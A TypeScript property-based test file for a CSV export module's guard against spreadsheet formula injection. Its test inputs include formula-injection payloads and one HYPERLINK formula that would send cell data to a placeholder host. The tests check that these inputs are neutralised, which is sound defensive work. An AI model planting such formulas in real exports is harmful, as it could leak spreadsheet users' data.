import fc from 'fast-check'
import { parseCsv } from 'hucre/csv'
import { describe, expect, it } from 'vitest'
import { csvCell, csvRow, needsGuard } from '../../../worker/services/exports/csv'

const unguard = (cell: string) => (cell.startsWith("'") && needsGuard(cell.slice(1)) ? cell.slice(1) : cell)

const awkward = fc.string({
  unit: fc.constantFrom(
    ...[
      '=',
      '+',
      '-',
      '@',
      '＝',
      '＋',
      '－',
      '＠',
      "'",
      '"',
      '“',
      ',',
      ';',
      '\t',
      '\r',
      '\n',
      ' ',
      '　',
      '\u200B',
    ],
    ...['0', '1', '9', '.', '/', ':', '%', 'E', 'a', '征', '𠮷', '👨‍👩‍👧', '\uFEFF', '\0'],
  ),
})
const anyText = fc.oneof(awkward, fc.string({ unit: 'grapheme' }))

describe('a CSV cell', () => {
  it('reads back as the text it was made of, less the apostrophe of a guarded one', () => {
    fc.assert(
      fc.property(fc.array(anyText, { minLength: 1, maxLength: 5 }), (texts) => {
        const [cells] = parseCsv(`${csvRow(['first', ...texts])}`, { delimiter: ',' })
        expect(cells?.slice(1).map((cell) => unguard(String(cell)))).toEqual(texts)
      }),
      { numRuns: 2000 },
    )
  })

  it('starts with nothing that a spreadsheet takes for a formula', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const [[, cell] = []] = parseCsv(csvRow(['first', text]), { delimiter: ',' })
        expect(String(cell)).not.toMatch(/^[\s\p{Cf}"“”]*[=+\-@＝＋－＠]|^\p{Cc}/u)
      }),
      { numRuns: 2000 },
    )
  })

  it.each([
    '=1+1',
    '+8613800000000',
    '-2',
    '- 一条列举',
    '@SUM(A1)',
    '\t=1',
    '\rfoo',
    '\nfoo',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    '  =1',
    '　=1',
    '\u200B=1',
    '"=1',
    "'=1",
    '=HYPERLINK("http://example.invalid/?"&A1,"点击")',
  ])('guards and quotes %j', (text) => {
    expect(csvCell(text)).toBe(`"'${text.replaceAll('"', '""')}"`)
  })

  it.each(['914403009999031240', '007', '3-5', '1/2', '1:30', '50%', '1E5', '13800000000', '1,000', '7.10'])(
    'keeps %s as it was written',
    (text) => {
      expect(csvCell(text)).toBe(`"'${text}"`)
    },
  )

  it.each([
    '7.1',
    '7.1.3',
    '12',
    '91441900MAX100075R',
    '建议=参考',
    "'已引用'",
    '3 家',
    '2021-03-19 09:12:05',
    '2021-03-19',
  ])('leaves %s alone', (text) => {
    expect(csvCell(text)).toBe(text)
  })

  it('quotes line breaks, separators, quotes and outer spaces by RFC 4180', () => {
    expect(csvRow(['一\n二', 'a,b', '他说"好"', ' x', 'a;b', null, '', 3, -4])).toBe(
      '"一\n二","a,b","他说""好"""," x","a;b",,,3,-4\r\n',
    )
  })

  it('takes 5,000 characters in a time that grows with them and no faster', () => {
    const long = '1'.repeat(5000)
    const started = performance.now()
    for (let i = 0; i < 100; i += 1) csvCell(`${long}字`)
    expect(performance.now() - started).toBeLessThan(1500)
    expect(csvCell('𠮷'.repeat(5000))).toBe('𠮷'.repeat(5000))
  })
})
